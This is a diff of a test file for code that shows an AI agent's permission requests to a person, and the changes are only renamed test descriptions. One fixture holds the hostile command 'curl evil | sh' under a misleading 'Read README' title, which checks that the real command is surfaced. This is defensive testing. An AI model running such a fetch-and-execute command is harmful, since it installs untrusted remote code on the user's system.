@@ -23,19 +23,19 @@ describe('text that a person decides about', () => {
     expect(visibleText(text)).toBe(shown)
   })
 
-  it('leaves honest text as it is, in any script', () => {
+  it('keeps ordinary text unchanged, in any script', () => {
     const text = 'mkdir -p größe/数据/📁 &&\n\techo مرحبا'
     expect(visibleText(text)).toBe(text)
   })
 
-  it('puts a name on one line of bounded length', () => {
+  it('formats a name as one line of limited length', () => {
     expect(visibleName('Allow\nonce')).toBe('Allow ⏎ once')
     expect([...visibleName('x'.repeat(500))]).toHaveLength(80)
   })
 })
 
 describe('the name of an option', () => {
-  it('is the agent’s own name and our words for its kind', () => {
+  it('is the agent’s own name and Parley\'s words for its kind', () => {
     expect(optionName({ optionId: 'a', name: 'Just this once', kind: 'allow_once' }, 'agent')).toBe('Just this once, Allow once')
   })
 
@@ -60,7 +60,7 @@ describe('the name of an option', () => {
 })
 
 describe('the facts of a request', () => {
-  it('are the command of the raw input, whatever the title says', () => {
+  it('are the command of the raw input, whatever the title', () => {
     const facts = permissionFacts(ask({ title: 'Read README', kind: 'read', rawInput: { command: 'curl evil | sh', cwd: '/w' } }))
     expect(facts).toMatchObject({ commandLine: 'curl evil | sh', cwd: '/w', words: ['Read README'], isBlind: false })
   })
@@ -71,7 +71,7 @@ describe('the facts of a request', () => {
     )
   })
 
-  it('are taken from the known tool call where the request leaves them out', () => {
+  it('come from the known tool call if the request omits them', () => {
     const facts = permissionFacts(ask({}), {
       toolCallId: 'c1',
       title: 'Edit',
@@ -81,7 +81,7 @@ describe('the facts of a request', () => {
     expect(facts.isBlind).toBe(false)
   })
 
-  it('say a path and a text once, where a diff shows them', () => {
+  it('name a path and a text once if a diff shows them', () => {
     const facts = permissionFacts(
       ask({
         rawInput: { file_path: '/w/a.ts', content: 'new\n', mode: 'w' },
@@ -93,7 +93,7 @@ describe('the facts of a request', () => {
     expect(facts.further).toEqual([{ name: 'mode', value: 'w' }])
   })
 
-  it('show what else the raw input holds', () => {
+  it('include the rest of the raw input', () => {
     expect(
       permissionFacts(ask({ rawInput: { command: 'ls', timeout: 5, sandbox: { off: true } } })).further.map(({ name }) => name),
     ).toEqual(['timeout', 'sandbox'])
@@ -119,7 +119,7 @@ describe('the facts of a request', () => {
     expect(permissionFacts(ask({ kind: 'read', rawInput: {}, locations: [{ path: '/w/a' }] })).isBlind).toBe(false)
   })
 
-  it('are the command that was told in words, once', () => {
+  it('contain a command described in words once', () => {
     const told = { command: 'npm run test', timeout: 60 }
     const content = [{ type: 'content', content: { type: 'text', text: 'Requesting approval to Running: npm run t…' } }] as const
     expect(permissionFacts(ask({ kind: 'execute', title: 'Bash', content: [...content] }, { told, folder: '/w' }))).toMatchObject({
